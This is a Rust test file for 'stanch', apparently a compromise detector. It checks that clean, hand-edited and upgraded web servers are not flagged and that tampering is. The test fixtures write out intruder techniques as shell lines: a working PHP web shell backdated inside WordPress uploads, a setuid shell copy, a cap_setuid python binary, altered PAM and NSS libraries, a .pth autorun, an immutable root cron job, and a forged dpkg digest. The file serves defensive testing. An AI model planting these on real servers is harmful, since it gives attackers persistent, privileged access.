//! Files on a server for the web: what a clean one says, what an upgrade and edited configuration
//! leave behind, and what an intruder changes, adds and hides, each found by its path.

#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]

use std::path::PathBuf;
use std::process::Command;

use serde_json::Value;
use stanch_range::{possible, web_server};

/// A folder that ends with the test.
struct Folder(PathBuf);

impl Folder {
    fn new(name: &str) -> Self {
        let folder = std::env::temp_dir().join(format!("stanch-{name}-{}", std::process::id()));
        for part in ["upper", "work", "m"] {
            std::fs::create_dir_all(folder.join(part)).unwrap();
        }
        Self(folder)
    }
}

impl Drop for Folder {
    fn drop(&mut self) {
        // What was made immutable must be let go first.
        let _free = Command::new("chattr").args(["-R", "-f", "-i"]).arg(&self.0).status();
        let _left = std::fs::remove_dir_all(&self.0);
    }
}

/// Runs a script in an overlay over the web server's root, then `stanch detect` on that root. What
/// the script prints is thrown away.
fn detect(name: &str, script: &str, options: &str) -> Value {
    let folder = Folder::new(name);
    let root = web_server().unwrap();
    let stanch = stanch_range::binaries().unwrap().join("stanch");
    let mount = "mount -t overlay o -o \"lowerdir=$2,upperdir=$1/upper,workdir=$1/work\" \"$1/m\"\n\
        mount --bind /dev \"$1/m/dev\"\n\
        mount -t proc proc \"$1/m/proc\"\n\
        cd \"$1/m\"\n";
    let look = "cd /; umount \"$1/m/proc\" \"$1/m/dev\"\n\
        exec \"$0\" --json --root \"$1/m\" detect $3";
    let output = Command::new("unshare")
        .args(["--mount", "--propagation", "private", "sh", "-ec"])
        .arg(format!("{mount}( : \n{script}\n ) >&2\n{look}"))
        .arg(stanch)
        .arg(&folder.0)
        .arg(root)
        .arg(options.replace("ROOT", &folder.0.join("m").to_string_lossy()))
        .output()
        .unwrap();
    let errors = String::from_utf8_lossy(&output.stderr);
    let document = serde_json::from_slice(&output.stdout);
    assert!(document.is_ok(), "{errors}");
    document.unwrap()
}

fn findings(document: &Value) -> &[Value] {
    document["findings"].as_array().unwrap()
}

fn above_low(document: &Value) -> Vec<String> {
    let grave = findings(document)
        .iter()
        .filter(|finding| !matches!(finding["level"].as_str(), Some("info" | "low")));
    grave.map(|finding| format!("{} {}", finding["sign"], finding["seen"])).collect()
}

/// Returns the signs that name a path, with their levels.
fn signs(document: &Value, path: &str) -> Vec<String> {
    let named = findings(document).iter().filter(|finding| {
        [&finding["entity"], &finding["seen"], &finding["evidence"]]
            .iter()
            .any(|part| part.to_string().contains(path))
    });
    named
        .map(|finding| {
            let text = |key: &str| finding[key].as_str().unwrap_or_default().to_owned();
            format!("{} {}", text("level"), text("sign"))
        })
        .collect()
}

/// Edits configuration as an administrator does.
const EDITS: &str = "echo '# edited' >> etc/nginx/nginx.conf
    echo 'memory_limit = 256M' >> etc/php/8.2/fpm/php.ini
    echo 'PermitRootLogin no' >> etc/ssh/sshd_config";

/// Installs packages again, as an upgrade does.
const UPGRADE: &str = "chroot . sh -ec 'export DEBIAN_FRONTEND=noninteractive
    export PATH=/usr/sbin:/usr/bin:/sbin:/bin
    cd /srv/packages
    dpkg -i --force-confold passwd_* dash_* nginx_* nginx-common_* php8.2-fpm_* wordpress_*'";

#[test]
fn a_clean_server_an_edited_one_and_an_upgraded_one_have_nothing_above_low() {
    if !possible() {
        return;
    }
    for (name, script) in [("clean", ""), ("edited", EDITS), ("upgraded", UPGRADE)] {
        let document = detect(name, script, "");
        assert_eq!(above_low(&document), Vec::<String>::new(), "{name}");
        assert_eq!(document["verdict"], "clean", "{name}");
        assert!(document["packages"]["machine"].as_u64().unwrap() > 200, "{name}");
    }
}

#[test]
fn an_edited_configuration_file_is_told_apart_from_an_altered_program() {
    if !possible() {
        return;
    }
    let script = format!("{EDITS}\nprintf x >> usr/sbin/nginx");
    let document = detect("altered", &script, "--only files");
    let program = signs(&document, "/usr/sbin/nginx");
    assert!(program.contains(&"high files.altered-program".to_owned()), "{program:?}");
    let configuration = signs(&document, "/etc/nginx/nginx.conf");
    assert!(configuration.iter().all(|sign| sign.starts_with("low")), "{configuration:?}");
}

/// Changes one byte of a program and writes the new digest into the list of its package.
const FORGED: &str = "old=$(md5sum < usr/bin/passwd | cut -c1-32)
    printf '\\377' | dd of=usr/bin/passwd bs=1 seek=9000 conv=notrunc status=none
    new=$(md5sum < usr/bin/passwd | cut -c1-32)
    test $old != $new
    sed -i s/$old/$new/ var/lib/dpkg/info/passwd.md5sums";

#[test]
fn a_program_whose_digest_was_forged_as_well_is_found_by_the_archive() {
    if !possible() {
        return;
    }
    let believed = detect("forged", FORGED, "--only files");
    assert_eq!(signs(&believed, "/usr/bin/passwd"), Vec::<String>::new());
    let options = "--only files --trust archive --packages ROOT/srv/packages";
    let compared = detect("compared", FORGED, options);
    assert_eq!(signs(&compared, "/usr/bin/passwd"), ["high files.altered-program"]);
    let packages = &compared["packages"];
    assert!(packages["archive"].as_u64().unwrap() >= 4, "{packages}");
    let unproven = packages["unproven"].as_array().unwrap();
    assert!(
        !unproven.iter().any(|name| name.as_str().unwrap().starts_with("passwd:")),
        "{unproven:?}"
    );
    // The rest of the packages has nothing to say against the archive.
    let clean = detect("proven", "", options);
    assert_eq!(above_low(&clean), Vec::<String>::new());
}

/// What is planted: a script, and the path by which it must be found.
const PLANTS: &[(&str, &str)] = &[
    (
        "cp usr/bin/true usr/lib/x86_64-linux-gnu/libnss_sys.so.2
         printf own >> usr/lib/x86_64-linux-gnu/libnss_sys.so.2",
        "/usr/lib/x86_64-linux-gnu/libnss_sys.so.2",
    ),
    ("cp bin/dash usr/bin/ntpsync && chmod 4755 usr/bin/ntpsync", "/usr/bin/ntpsync"),
    (
        "cp usr/bin/python3.11 usr/local/bin/pyhelper
         setcap cap_setuid=ep usr/local/bin/pyhelper",
        "/usr/local/bin/pyhelper",
    ),
    (
        "mkdir -p var/lib/wordpress/wp-content/uploads/2019/03
         echo '<?php if (isset($_POST[\"c\"])) { system($_POST[\"c\"]); } ?>' \
            > var/lib/wordpress/wp-content/uploads/2019/03/thumb.php
         touch -d '2019-03-04 10:11:12' var/lib/wordpress/wp-content/uploads/2019/03/thumb.php",
        "/var/lib/wordpress/wp-content/uploads/2019/03/thumb.php",
    ),
    (
        "echo 'import os; os.system(\"/usr/bin/true\")' > usr/lib/python3/dist-packages/zz_site.pth",
        "/usr/lib/python3/dist-packages/zz_site.pth",
    ),
    (
        "cp usr/lib/x86_64-linux-gnu/security/pam_permit.so \
            usr/lib/x86_64-linux-gnu/security/pam_session.so
         printf own >> usr/lib/x86_64-linux-gnu/security/pam_session.so",
        "/usr/lib/x86_64-linux-gnu/security/pam_session.so",
    ),
    (
        "echo '* * * * * root /var/tmp/.u/run' > etc/cron.d/php-clean
         chattr +i etc/cron.d/php-clean",
        "/etc/cron.d/php-clean",
    ),
];

#[test]
fn what_an_intruder_leaves_is_found_by_its_path() {
    if !possible() {
        return;
    }
    let scripts: Vec<&str> = PLANTS.iter().map(|plant| plant.0).collect();
    let document = detect("planted", &scripts.join("\n"), "--only files,processes,logs");
    let mut missed = Vec::new();
    for (_, path) in PLANTS {
        let signs = signs(&document, path);
        eprintln!("{path}: {signs:?}");
        if !signs.iter().any(|sign| !sign.starts_with("low") && !sign.starts_with("info")) {
            missed.push(*path);
        }
    }
    assert_eq!(missed, Vec::<&str>::new());
    assert_eq!(document["verdict"], "compromised");
}
